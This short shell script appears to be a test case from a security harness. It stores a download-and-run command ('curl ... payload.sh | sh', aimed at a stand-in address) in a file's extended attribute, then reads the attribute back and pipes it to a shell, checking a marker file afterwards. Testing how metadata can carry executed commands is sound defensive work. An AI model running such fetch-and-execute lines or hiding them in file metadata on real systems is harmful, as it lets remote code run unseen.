#!/bin/sh
. /opt/case/case.sh

python3 -c 'import os; os.setxattr("/srv/data/01.txt", "user.c", b"curl -s http://203.0.113.10/payload.sh | sh")'
python3 -c 'import os; print(os.getxattr("/srv/data/01.txt", "user.c").decode())' | sh
test -e /tmp/reached
took_place
